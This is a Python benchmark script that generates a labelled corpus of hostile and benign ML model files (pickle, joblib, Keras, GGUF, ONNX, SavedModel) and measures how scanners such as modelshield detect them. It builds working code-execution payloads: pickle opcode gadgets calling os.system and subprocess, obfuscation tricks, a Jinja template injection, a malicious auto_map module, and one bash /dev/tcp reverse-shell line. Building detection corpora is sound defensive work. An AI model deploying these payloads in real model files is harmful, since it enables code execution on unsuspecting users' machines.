"""Detection: which tool catches which attack, in which container, and which tool cries wolf.

Builds a labelled corpus in a temporary folder (removed afterwards): every attack family the project
covers, as a representative sample wrapped in every container where it makes sense (bare, PyTorch-style
zip, zip with tricks, tar, tar.gz, 7z, gzip / bz2 / xz / lzma / zlib streams, a misleading extension)
plus further variants of each family bare; and the committed benign fixtures, bare, and one per format
in the same containers except the tampered ones (zip tricks, misleading names: findings by design).
Runs every tool (modelshield and the peers of bench/peers.py, same commands, same exit-code reading) on
every file with a per-file timeout and classifies each result:

    caught          unsafe, flagged          missed          unsafe, clean
    false positive  safe, flagged            could not scan  error, crash or timeout

Prints Markdown: per-tool counts, per-family and per-container breakdowns, every file a peer caught and
modelshield did not, and every modelshield miss and false positive. Nothing here loads a generated file;
hostile payloads only ever name harmless commands (`id`, `touch /tmp/modelshield-marker-*`).

    python bench/detection.py            # full corpus, 599 files, ~18 minutes on 2 cores
    python bench/detection.py --quick    # one sample per family, 7 containers: ~6 minutes
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from importlib import metadata
from pathlib import Path

from _common import measure
from peers import MODELSHIELD, PEERS, QUIET, ROOT, Tool, _excerpt, _verdict, install

sys.path.insert(0, str(ROOT))  # the pickle opcode builders are the tests' own
from tests.formats.pickle_build import (
    APPENDS,
    EMPTY_TUPLE,
    INST,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NONE,
    OBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    binget,
    binput,
    call,
    frame,
    glob,
    proto,
    text,
)

FIX = ROOT / "tests" / "fixtures"
MARK_CMD = "touch /tmp/modelshield-marker-bench"


def system_call(cmd: str = MARK_CMD) -> bytes:
    """os.system(cmd) without PROTO or STOP, to splice into other pickles."""
    return glob("os", "system") + text(cmd) + TUPLE1 + REDUCE


def evil(cmd: str = MARK_CMD, p: int = 2) -> bytes:
    return proto(p) + system_call(cmd) + STOP


class Payload:
    """Pickles as a call of `func(*args)`; only ever dumped."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def runtime_names() -> bytes:
    """modelscan #331: 'os' assembled with str.join at load time, then STACK_GLOBAL."""
    builtins_mod = glob("importlib", "import_module") + text("builtins") + TUPLE1 + REDUCE
    str_type = glob("builtins", "getattr") + builtins_mod + text("str") + TUPLE2 + REDUCE
    join = glob("builtins", "getattr") + str_type + text("join") + TUPLE2 + REDUCE
    os_name = join + MARK + text("") + b"]" + MARK + text("o") + text("s") + APPENDS + TUPLE + REDUCE
    return proto(4) + os_name + text("system") + STACK_GLOBAL + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def stack_global_memo() -> bytes:
    data = proto(4) + text("system") + binput(3) + text("os") + binput(4) + POP + POP
    return data + binget(4) + binget(3) + STACK_GLOBAL + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def getattr_import() -> bytes:
    os_mod = glob("importlib", "import_module") + text("os") + TUPLE1 + REDUCE
    fetch = glob("builtins", "getattr") + os_mod + text("system") + TUPLE2 + REDUCE
    return proto(4) + fetch + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def methodcaller() -> bytes:
    caller = glob("operator", "methodcaller") + text("system") + text(MARK_CMD) + TUPLE2 + REDUCE
    os_mod = glob("importlib", "import_module") + text("os") + TUPLE1 + REDUCE
    return proto(4) + caller + os_mod + TUPLE1 + REDUCE + STOP


def partial_system() -> bytes:
    part = glob("functools", "partial") + glob("os", "system") + text(MARK_CMD) + TUPLE2 + REDUCE
    return proto(4) + part + EMPTY_TUPLE + REDUCE + STOP


def memo_laundered() -> bytes:
    head = text("os") + MEMOIZE + binget(0) + MEMOIZE + POP + text("system")
    return proto(4) + head + STACK_GLOBAL + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def memo_split() -> bytes:
    """The memo of a first, benign-looking pickle is not the memo of the second."""
    first = proto(4) + text("torch._utils") + binput(0) + text("_rebuild_tensor_v2") + binput(1) + STACK_GLOBAL + STOP
    second = proto(4) + text("os") + binput(0) + text("system") + binput(1) + POP + POP
    return first + second + binget(0) + binget(1) + STACK_GLOBAL + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def dotted(module: str, name: str) -> bytes:
    return proto(2) + proto(4) + text(module) + text(name) + STACK_GLOBAL + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def py2(module: str, name: str) -> bytes:
    return proto(2) + glob(module, name) + text(MARK_CMD) + TUPLE1 + REDUCE + STOP


def inst() -> bytes:
    return MARK + text(MARK_CMD) + INST + b"os\nsystem\n" + STOP


def obj() -> bytes:
    return proto(2) + MARK + glob("os", "system") + text(MARK_CMD) + OBJ + STOP


def newobj() -> bytes:
    return proto(2) + glob("subprocess", "Popen") + text(MARK_CMD) + TUPLE1 + NEWOBJ + STOP


def nested() -> bytes:
    return pickle.dumps(Payload(pickle.loads, evil(p=2)), protocol=4)


def nested_computed() -> bytes:
    decoded = glob("base64", "b64decode") + text("gASVAAAAAAAAAAA=") + TUPLE1 + REDUCE
    return proto(4) + glob("pickle", "loads") + decoded + TUPLE1 + REDUCE + STOP


def torch_load_partial() -> bytes:
    args = glob("torch", "load") + text("other.pt") + TUPLE2
    return proto(4) + glob("functools", "partial") + args + REDUCE + EMPTY_TUPLE + REDUCE + STOP


def nullifai() -> bytes:
    """A reverse shell at the start of a stream that breaks right after it (nullifAI)."""
    return evil("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")[:-1] + b"\xff\x00 corrupt"


def garbage_between() -> bytes:
    return pickle.dumps({"a": 1}, protocol=2) + b"\x00\x01garbage\xfe" * 4 + evil(p=4)


def stacked() -> bytes:
    return pickle.dumps({"state_dict": {}}, protocol=2) + evil()


def frame_crossing() -> bytes:
    """cpython#154848: BINBYTES declares a length past its frame; old C unpicklers run the tail."""
    hidden = system_call() + POP
    body = b"B" + struct.pack("<I", len(hidden) + 1)
    return proto(4) + frame(body) + hidden + NONE + STOP


def nested_frame() -> bytes:
    inner = frame(system_call() + STOP)
    return proto(4) + frame(inner[:9]) + inner[9:]


def joblib_payload() -> bytes:
    import joblib
    import numpy as np

    objects = np.empty(2, dtype=object)
    objects[:] = ["label", Payload(os.system, MARK_CMD)]
    raw = io.BytesIO()
    joblib.dump([np.arange(1000.0), objects, np.ones((4, 4)), Payload(os.system, MARK_CMD)], raw)
    return raw.getvalue()


def joblib_only_after_arrays() -> bytes:
    import joblib
    import numpy as np

    raw = io.BytesIO()
    joblib.dump({"coef": np.arange(4096.0), "hook": Payload(os.system, MARK_CMD)}, raw)
    return raw.getvalue()


# ------------------------------------------------------------------ other formats
LLAMA_TEMPLATE = (
    "{{- bos_token }}{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + "
    "'<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}"
)
EVIL_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


def gguf_file(template: str) -> bytes:
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_name("tiny-llama")
        writer.add_context_length(2048)
        writer.add_block_count(1)
        writer.add_tokenizer_model("gpt2")
        writer.add_token_list(["<s>", "</s>", "hello", "world"])
        writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.zeros((4, 32), dtype=np.float32))
        writer.add_tensor("output_norm.weight", np.ones(32, dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def tokenizer_config(template: str) -> bytes:
    config = {
        "add_bos_token": True,
        "bos_token": "<|begin_of_text|>",
        "chat_template": template,
        "model_max_length": 131072,
        "tokenizer_class": "PreTrainedTokenizerFast",
    }
    return json.dumps(config, indent=2).encode()


def onnx_custom() -> bytes:
    import onnx
    from onnx import TensorProto, helper

    nodes = [helper.make_node("Decrypt", ["x"], ["y"], domain="com.example.ops")]
    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
    )
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("com.example.ops", 1)]
    model: onnx.ModelProto = helper.make_model(graph, opset_imports=opsets)
    return model.SerializeToString()


def remote_code(folder: Path) -> None:
    """A Transformers config whose auto_map names a modeling file that runs a command on import."""
    folder.mkdir()
    config = {
        "architectures": ["EvilModel"],
        "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel"},
        "model_type": "evil",
    }
    (folder / "config.json").write_text(json.dumps(config, indent=2))
    (folder / "configuration_evil.py").write_text(
        "from transformers import PretrainedConfig\n\n\nclass EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n"
    )
    (folder / "modeling_evil.py").write_text(
        f"import os\n\nos.system({MARK_CMD!r})\n\nfrom transformers import PreTrainedModel\n\n\n"
        "class EvilModel(PreTrainedModel):\n    pass\n"
    )


# ------------------------------------------------------------------ the corpus
@dataclass(frozen=True)
class Sample:
    family: str
    name: str
    """File name (for a directory sample: the folder name)."""
    make: Callable[[Path], None]
    """Writes the sample at the given path."""
    pickle: bool = False
    """A raw pickle stream: it can also be wrapped as a PyTorch zip's archive/data.pkl."""
    folder: bool = False


def data(raw: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(raw() if callable(raw) else raw)


def copy(source: Path) -> Callable[[Path], None]:
    return lambda path: shutil.copytree(source, path) if source.is_dir() else shutil.copyfile(source, path)


def pkl(family: str, name: str, raw: bytes | Callable[[], bytes]) -> Sample:
    return Sample(family, name, data(raw), pickle=True)


#: Keras hostile-folder fixtures that carry no code: a custom class that is not in the file (module null)
#: is looked up only among the classes the user's own code registers (keras serialization_lib), so the
#: file cannot run code by itself (KRS003 low). They are scored as benign.
KERAS_WITHOUT_CODE = frozenset({"k3_custom_layer.keras", "k2_custom_layer.h5"})


def unsafe_families() -> dict[str, list[Sample]]:
    """family -> samples; the first is the representative wrapped in every container."""
    k, tf, mal = FIX / "keras" / "malicious", FIX / "tf", FIX / "malicious"
    families = {
        "pickle: os.system": [
            pkl("pickle: os.system", "model.pkl", evil()),
            pkl("pickle: os.system", "model_p0.pkl", b"cos\nsystem\n(S'id'\ntR."),
        ],
        "pickle: exec / eval": [
            pkl("pickle: exec / eval", "model.pkl", call("builtins", "exec", text("import os"))),
            pkl("pickle: exec / eval", "eval.pkl", call("builtins", "eval", text("1+1"))),
        ],
        "pickle: subprocess": [
            pkl("pickle: subprocess", "model.pkl", call("subprocess", "check_output", MARK + text("id") + b"l")),
            pkl("pickle: subprocess", "popen.pkl", newobj()),
        ],
        "gadget: getattr / importlib": [
            pkl("gadget: getattr / importlib", "model.pkl", getattr_import()),
            pkl("gadget: getattr / importlib", "import.pkl", call("importlib", "import_module", text("os"))),
        ],
        "gadget: operator / functools": [
            pkl("gadget: operator / functools", "model.pkl", methodcaller()),
            pkl("gadget: operator / functools", "partial.pkl", partial_system()),
        ],
        "dynamic STACK_GLOBAL": [
            pkl("dynamic STACK_GLOBAL", "model.pkl", runtime_names()),
            pkl("dynamic STACK_GLOBAL", "memo_operands.pkl", stack_global_memo()),
        ],
        "dotted names": [
            pkl("dotted names", "model.pkl", dotted("pathlib", "os.system")),
            pkl("dotted names", "subclasses.pkl", dotted("builtins", "print.__class__.__base__.__subclasses__")),
        ],
        "Python-2 renames": [
            pkl("Python-2 renames", "model.pkl", py2("commands", "getoutput")),
            pkl("Python-2 renames", "builtin_eval.pkl", py2("__builtin__", "eval")),
        ],
        "INST / OBJ calls": [pkl("INST / OBJ calls", "model.pkl", inst()), pkl("INST / OBJ calls", "obj.pkl", obj())],
        "memo tricks": [
            pkl("memo tricks", "model.pkl", memo_laundered()),
            pkl("memo tricks", "memo_split.pkl", memo_split()),
        ],
        "nested pickle.loads": [
            pkl("nested pickle.loads", "model.pkl", nested()),
            pkl("nested pickle.loads", "computed.pkl", nested_computed()),
        ],
        "model loading (torch.load)": [
            pkl("model loading (torch.load)", "model.pkl", torch_load_partial()),
            pkl("model loading (torch.load)", "direct.pkl", call("torch", "load", text("other.pt"))),
        ],
        "broken stream after payload": [
            pkl("broken stream after payload", "model.pkl", nullifai()),
            pkl("broken stream after payload", "garbage.pkl", garbage_between()),
            pkl("broken stream after payload", "stacked.pkl", stacked()),
        ],
        "frame tricks": [
            pkl("frame tricks", "model.pkl", frame_crossing()),
            pkl("frame tricks", "nested_frame.pkl", nested_frame()),
        ],
        "joblib payload next to arrays": [
            pkl("joblib payload next to arrays", "model.joblib", joblib_payload),
            pkl("joblib payload next to arrays", "after.joblib", joblib_only_after_arrays),
            Sample("joblib payload next to arrays", "joblib_payload.joblib", copy(mal / "joblib_payload.joblib")),
            Sample(
                "joblib payload next to arrays", "joblib_payload_zlib.joblib", copy(mal / "joblib_payload_zlib.joblib")
            ),
        ],
        "numpy object array": [
            Sample("numpy object array", "weights.npy", copy(mal / "numpy_object_payload.npy")),
            Sample("numpy object array", "arrays.npz", copy(mal / "numpy_payload.npz")),
        ],
        "framework dumps (torch, dill, cloudpickle)": [
            Sample("framework dumps (torch, dill, cloudpickle)", name, copy(mal / name))
            for name in (
                "torch_payload.pt",
                "torch_legacy_payload.pt",
                "dill_lambda.pkl",
                "cloudpickle_function.pkl",
                "pickle_as.safetensors",
            )
        ],
        "Keras Lambda / custom code": [
            Sample("Keras Lambda / custom code", p.name, copy(p))
            for p in [
                k / "k3_lambda.keras",
                *(q for q in sorted(k.iterdir()) if q.name != "k3_lambda.keras" and q.name not in KERAS_WITHOUT_CODE),
            ]
        ],
        "SavedModel PyFunc / file ops": [
            Sample("SavedModel PyFunc / file ops", name, copy(tf / name), folder=True)
            for name in (
                "savedmodel_pyfunc",
                "savedmodel_pyfunc_pbtxt",
                "savedmodel_read_file",
                "savedmodel_write_file",
                "savedmodel_restore_in_serving",
                "savedmodel_custom_op",
            )
        ],
        "LiteRT custom / Flex ops": [
            Sample("LiteRT custom / Flex ops", name, copy(tf / name))
            for name in (
                "flex_read_file.tflite",
                "custom_op.tflite",
                "flex_write_file.tflite",
                "stablehlo_custom_call.tflite",
                "unknown_builtin.tflite",
            )
        ],
        "ONNX custom domain": [Sample("ONNX custom domain", "model.onnx", data(onnx_custom))],
        "GGUF chat template": [Sample("GGUF chat template", "model.gguf", data(lambda: gguf_file(EVIL_TEMPLATE)))],
        "tokenizer_config.json template": [
            Sample("tokenizer_config.json template", "tokenizer_config.json", data(tokenizer_config(EVIL_TEMPLATE)))
        ],
        "remote code (auto_map)": [Sample("remote code (auto_map)", "evil-model", remote_code, folder=True)],
    }
    return families


def safe_samples() -> tuple[list[Sample], list[Sample]]:
    """(every benign fixture, one representative per format wrapped in every container)."""
    tf = FIX / "tf"
    files = sorted((FIX / "real").iterdir()) + sorted((FIX / "keras" / "real").iterdir())
    files += [
        tf / n
        for n in (
            "dense.tflite",
            "cnn.tflite",
            "module.tflite",
            "stock_custom_op.tflite",
            "flex_benign.tflite",
            "savedmodel_module",
            "savedmodel_keras_export",
            "savedmodel_tf1",
        )
    ]
    files += sorted((ROOT / "examples" / "safe").iterdir())
    files += [FIX / "keras" / "malicious" / n for n in sorted(KERAS_WITHOUT_CODE)]
    every = [Sample("benign", p.name, copy(p), folder=p.is_dir()) for p in files]
    every += [
        Sample("benign", "llama.gguf", data(lambda: gguf_file(LLAMA_TEMPLATE))),
        Sample("benign", "tokenizer_config.json", data(tokenizer_config(LLAMA_TEMPLATE))),
    ]
    reps = [
        Sample("benign", "data.pkl", copy(FIX / "real" / "python_data_p4.pkl"), pickle=True),
        Sample("benign", "torch_state_dict.pt", copy(FIX / "real" / "torch_state_dict.pt")),
        Sample("benign", "sklearn_estimators.joblib", copy(FIX / "real" / "sklearn_estimators.joblib")),
        Sample("benign", "numpy_float32.npy", copy(FIX / "real" / "numpy_float32.npy")),
        Sample("benign", "k3_functional.keras", copy(FIX / "keras" / "real" / "k3_functional.keras")),
        Sample("benign", "k3_functional.h5", copy(FIX / "keras" / "real" / "k3_functional.h5")),
        Sample("benign", "cnn.tflite", copy(tf / "cnn.tflite")),
        Sample("benign", "torch_export.onnx", copy(FIX / "real" / "torch_export.onnx")),
        every[-2],
        every[-1],
        Sample("benign", "savedmodel_keras_export", copy(tf / "savedmodel_keras_export"), folder=True),
    ]
    return every, reps


# ------------------------------------------------------------------ containers
def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", compression) as zf:
        for name, blob in members.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), blob)
    return raw.getvalue()


def _torch_members(pkl_bytes: bytes) -> dict[str, bytes]:
    return {"archive/data.pkl": pkl_bytes, "archive/byteorder": b"little", "archive/version": b"3\n"}


def _headers(blob: bytes) -> tuple[int, int]:
    """Offsets of the first local header and first central-directory header."""
    return blob.index(b"PK\x03\x04"), blob.index(b"PK\x01\x02")


def zip_bad_crc(members: dict[str, bytes]) -> bytes:
    blob = bytearray(_zip(members))
    local, central = _headers(bytes(blob))
    for at in (local + 14, central + 16):
        blob[at : at + 4] = bytes(b ^ 0xFF for b in blob[at : at + 4])
    return bytes(blob)


def zip_flag_bits(members: dict[str, bytes]) -> bytes:
    """The encryption flag set on a member that is not encrypted: loaders that ignore flags read it."""
    blob = bytearray(_zip(members))
    local, central = _headers(bytes(blob))
    blob[local + 6] |= 1
    blob[central + 8] |= 1
    return bytes(blob)


def zip_name_mismatch(members: dict[str, bytes]) -> bytes:
    """The local header names the first member differently from the central directory (same length)."""
    blob = bytearray(_zip(members))
    local, _ = _headers(bytes(blob))
    length = struct.unpack_from("<H", blob, local + 26)[0]
    start = local + 30
    blob[start + length - 1] = ord("x") if blob[start + length - 1] != ord("x") else ord("y")
    return bytes(blob)


def zip_duplicate(members: dict[str, bytes], decoy: bytes) -> bytes:
    """A decoy member, then the payload under the same name."""
    raw = io.BytesIO()
    first = next(iter(members))
    with zipfile.ZipFile(raw, "w") as zf:
        zf.writestr(zipfile.ZipInfo(first, date_time=(2024, 1, 1, 0, 0, 0)), decoy)
        for name, blob in members.items():
            with_dup = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                zf.writestr(with_dup, blob)
    return raw.getvalue()


def zip_prepended(members: dict[str, bytes]) -> bytes:
    return b"#!/bin/sh\necho self-extracting model\nexit 0\n" + b"\0" * 64 + _zip(members)


def tar_of(members: dict[str, bytes], mode: str) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode=mode) as tf:  # type: ignore[call-overload]
        for name, blob in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(blob), 1_700_000_000
            tf.addfile(info, io.BytesIO(blob))
    return raw.getvalue()


def sevenzip(members: dict[str, bytes], path: Path) -> None:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as archive:
        for name, blob in members.items():
            archive.writestr(blob, name)


def folder_members(folder: Path, prefix: str) -> dict[str, bytes]:
    return {f"{prefix}/{p.relative_to(folder)}": p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


STREAMS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "gzip": (".gz", lambda b: gzip.compress(b, mtime=0)),
    "bz2": (".bz2", bz2.compress),
    "xz": (".xz", lambda b: lzma.compress(b, format=lzma.FORMAT_XZ)),
    "lzma": (".lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
    "zlib": (".zlib", zlib.compress),
}
ZIP_TRICKS = ("zip: bad CRC", "zip: flag bits", "zip: name mismatch", "zip: duplicate names", "zip: prepended bytes")
CONTAINERS = ("bare", "PyTorch zip", "zip", *ZIP_TRICKS, "tar", "tar.gz", "7z", *STREAMS, "misleading extension")
TAMPERED = (*ZIP_TRICKS, "misleading extension")
"""Containers that are themselves findings by design (tampered archives, names that contradict content):
applied to unsafe files only, since a benign model in them is not a standard model."""
QUICK_CONTAINERS = ("bare", "PyTorch zip", "zip: name mismatch", "tar.gz", "7z", "xz", "misleading extension")


@dataclass
class Item:
    path: Path
    label: str
    family: str
    container: str
    outcomes: dict[str, tuple[str, str]] = field(default_factory=dict)
    """tool -> (verdict, note)"""


def wrap(sample: Sample, container: str, work: Path, dest: Path) -> Path | None:
    """Write `sample` wrapped in `container` under `dest`; None where the container makes no sense."""
    source = work / sample.name
    if not source.exists():
        sample.make(source)
    stem = sample.name
    if sample.folder:
        members = folder_members(source, sample.name)
        if container == "bare":
            shutil.copytree(source, dest / stem)
            return dest / stem
        if container == "zip":
            out = dest / f"{stem}.zip"
            out.write_bytes(_zip(members))
        elif container in ("tar", "tar.gz"):
            out = dest / f"{stem}.{container}"
            out.write_bytes(tar_of(members, "w" if container == "tar" else "w:gz"))
        elif container == "7z":
            out = dest / f"{stem}.7z"
            sevenzip(members, out)
        else:
            return None
        return out
    blob = source.read_bytes()
    if container == "PyTorch zip":
        if not sample.pickle:
            return None
        out = dest / "model.pt"
        out.write_bytes(_zip(_torch_members(blob)))
        return out
    members = _torch_members(blob) if sample.pickle else {stem: blob}
    name_in = "model.pt" if sample.pickle else stem
    if container == "bare":
        out = dest / stem
        out.write_bytes(blob)
    elif container == "zip":
        out = dest / f"{stem}.zip"
        out.write_bytes(_zip({stem: blob}))
    elif container in ZIP_TRICKS:
        out = dest / (name_in if sample.pickle else f"{stem}.zip")
        trick = {
            "zip: bad CRC": zip_bad_crc,
            "zip: flag bits": zip_flag_bits,
            "zip: name mismatch": zip_name_mismatch,
            "zip: prepended bytes": zip_prepended,
            "zip: duplicate names": lambda m: zip_duplicate(
                m, pickle.dumps({"w": [0.0]}, protocol=2) if sample.pickle else b"{}"
            ),
        }[container]
        out.write_bytes(trick(members))
    elif container in ("tar", "tar.gz"):
        out = dest / f"{stem}.{container}"
        out.write_bytes(tar_of({stem: blob}, "w" if container == "tar" else "w:gz"))
    elif container == "7z":
        out = dest / f"{stem}.7z"
        sevenzip({stem: blob}, out)
    elif container in STREAMS:
        suffix, compress = STREAMS[container]
        out = dest / f"{stem}{suffix}"
        out.write_bytes(compress(blob))
    elif container == "misleading extension":
        out = dest / (Path(stem).stem + (".safetensors" if sample.pickle or stem.endswith(".pkl") else ".txt"))
        out.write_bytes(blob)
    else:
        raise ValueError(container)
    return out


def build(root: Path, quick: bool) -> list[Item]:
    containers = QUICK_CONTAINERS if quick else CONTAINERS
    work = root / "work"
    work.mkdir()
    items: list[Item] = []
    counter = 0

    def add(sample: Sample, label: str, family: str, container: str) -> None:
        nonlocal counter
        counter += 1
        dest = root / "corpus" / label / f"{counter:04d}"
        dest.mkdir(parents=True)
        scratch = work / f"{counter:04d}"
        scratch.mkdir()
        path = wrap(sample, container, scratch, dest)
        if path is None:
            shutil.rmtree(dest)
        else:
            items.append(Item(path, label, family, container))

    for family, samples in unsafe_families().items():
        for index, sample in enumerate(samples):
            if index == 0:
                for container in containers:
                    add(sample, "unsafe", family, container)
            elif not quick:
                add(sample, "unsafe", family, "bare")
    every, reps = safe_samples()
    if not quick:
        for sample in every:
            add(sample, "safe", "benign fixtures", "bare")
    for sample in reps:
        for container in containers:
            if (container != "bare" or quick) and container not in TAMPERED:
                add(sample, "safe", "benign fixtures", container)
    shutil.rmtree(work)
    return items


# ------------------------------------------------------------------ running the tools
def run_one(tool: Tool, item: Item, scratch: Path, timeout: float) -> tuple[str, str]:
    scratch.mkdir(parents=True)
    (scratch / "cwd").mkdir()
    (scratch / "home").mkdir()
    env = os.environ | QUIET | {"HOME": str(scratch / "home")}
    log = scratch / "output.txt"
    with log.open("wb") as out:
        _, _, code = measure(tool.argv(item.path), cwd=scratch / "cwd", env=env, output=out, timeout=timeout)
    verdict, note = _verdict(tool, code, _excerpt(log), timeout)
    shutil.rmtree(scratch)
    return verdict, note.replace(f"{item.path.parent}/", "").replace("|", "/")[:160]


def classify(item: Item, tool: str) -> str:
    verdict = item.outcomes[tool][0]
    if verdict == "flagged":
        return "caught" if item.label == "unsafe" else "false positive"
    if verdict == "clean":
        return "missed" if item.label == "unsafe" else "clean"
    return "could not scan"


def rel(item: Item, root: Path) -> str:
    return str(item.path.relative_to(root / "corpus"))


def report(items: list[Item], tools: tuple[Tool, ...], root: Path) -> Iterator[str]:
    names = [t.name for t in tools]
    unsafe = [i for i in items if i.label == "unsafe"]
    safe = [i for i in items if i.label == "safe"]
    yield f"{len(items)} files: {len(unsafe)} unsafe, {len(safe)} safe.\n\n"
    yield "| tool | caught | missed | could not scan (unsafe) | false positive | clean (safe) "
    yield "| could not scan (safe) | detection rate |\n| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |\n"
    for name in names:
        u = Counter(classify(i, name) for i in unsafe)
        s = Counter(classify(i, name) for i in safe)
        rate = u["caught"] / len(unsafe) if unsafe else 0
        yield (
            f"| {name} | {u['caught']} | {u['missed']} | {u['could not scan']} | {s['false positive']} "
            f"| {s['clean']} | {s['could not scan']} | {rate:.0%} |\n"
        )
    for title, key in (("family", lambda i: i.family), ("container", lambda i: i.container)):
        groups: dict[str, list[Item]] = defaultdict(list)
        for i in unsafe:
            groups[key(i)].append(i)
        yield f"\nUnsafe files caught, by {title} (caught / total):\n\n"
        yield f"| {title} | " + " | ".join(names) + " |\n| --- |" + " ---: |" * len(names) + "\n"
        for group, members in groups.items():
            cells = [f"{sum(classify(i, n) == 'caught' for i in members)} / {len(members)}" for n in names]
            yield f"| {group} | " + " | ".join(cells) + " |\n"
    safe_groups: dict[str, list[Item]] = defaultdict(list)
    for i in safe:
        safe_groups[i.container].append(i)
    yield "\nSafe files flagged (false positives), by container (flagged / total):\n\n"
    yield "| container | " + " | ".join(names) + " |\n| --- |" + " ---: |" * len(names) + "\n"
    for group, members in safe_groups.items():
        cells = [f"{sum(classify(i, n) == 'false positive' for i in members)} / {len(members)}" for n in names]
        yield f"| {group} | " + " | ".join(cells) + " |\n"
    base = MODELSHIELD.name
    peer_only = [
        (i, [n for n in names[1:] if classify(i, n) == "caught"]) for i in unsafe if classify(i, base) != "caught"
    ]
    peer_only = [(i, by) for i, by in peer_only if by]
    yield "\nUnsafe files a peer caught and modelshield did not: "
    if not peer_only:
        yield "**none**.\n"
    else:
        yield f"**{len(peer_only)} — see below**.\n\n"
        for i, by in peer_only:
            yield f"- **{rel(i, root)}** ({i.family}, {i.container}): caught by {', '.join(by)}; "
            yield f"modelshield: {i.outcomes[base][0]} {i.outcomes[base][1]}\n"
    own = [i for i in items if classify(i, base) in ("missed", "false positive", "could not scan")]
    yield "\nmodelshield misses, false positives and files it could not scan: "
    if not own:
        yield "**none**.\n"
    else:
        yield f"{len(own)}.\n\n"
        for i in own:
            verdict, note = i.outcomes[base]
            yield f"- {rel(i, root)} ({i.label}, {i.family}, {i.container}): {classify(i, base)}"
            yield f" ({verdict}{': ' + note if note else ''})\n"


def versions(tools: tuple[Tool, ...]) -> str:
    ours = f"modelshield {metadata.version('modelshield')} (this work tree)"
    return ", ".join(ours if t is MODELSHIELD else " ".join(t.requirements) for t in tools)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="representatives only, 7 containers: a smoke test")
    parser.add_argument("--timeout", type=float, default=60.0, help="seconds per tool and file (default 60)")
    parser.add_argument("--jobs", type=int, default=os.cpu_count() or 1, help="files scanned at once")
    parser.add_argument("--tools", help="comma-separated subset of tools (default: all)")
    parser.add_argument("--json", type=Path, help="also write every file's label and verdicts here")
    args = parser.parse_args()
    tools = (MODELSHIELD, *PEERS)
    if args.tools:
        tools = tuple(t for t in tools if t.name in args.tools.split(","))
    for tool in tools:
        install(tool)
    started = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="modelshield-detection-") as tmp:
        root = Path(tmp)
        items = build(root, args.quick)
        print(
            f"# Detection ({time.strftime('%Y-%m-%d')}, {os.cpu_count()} cores, Python {sys.version.split()[0]}, "
            f"timeout {args.timeout:g} s per tool and file)\n",
            flush=True,
        )
        print(f"Tools: {versions(tools)}\n")
        jobs = [(t, i, n) for n, i in enumerate(items) for t in tools]

        def run(job: tuple[Tool, Item, int]) -> None:
            tool, item, n = job
            item.outcomes[tool.name] = run_one(tool, item, root / "scratch" / f"{n}-{tool.name}", args.timeout)

        with ThreadPoolExecutor(max_workers=args.jobs) as pool:
            for done, _ in enumerate(pool.map(run, jobs), 1):
                if done % 100 == 0:
                    print(f"{done}/{len(jobs)} scans, {time.perf_counter() - started:.0f} s", file=sys.stderr)
        print("".join(report(items, tools, root)))
        if args.json:
            rows = [
                {
                    "file": rel(i, root),
                    "label": i.label,
                    "family": i.family,
                    "container": i.container,
                    "results": {
                        n: {"verdict": v, "note": note, "class": classify(i, n)} for n, (v, note) in i.outcomes.items()
                    },
                }
                for i in items
            ]
            args.json.write_text(json.dumps(rows, indent=1))
    print(f"Wall time: {(time.perf_counter() - started) / 60:.1f} minutes.")


if __name__ == "__main__":
    main()
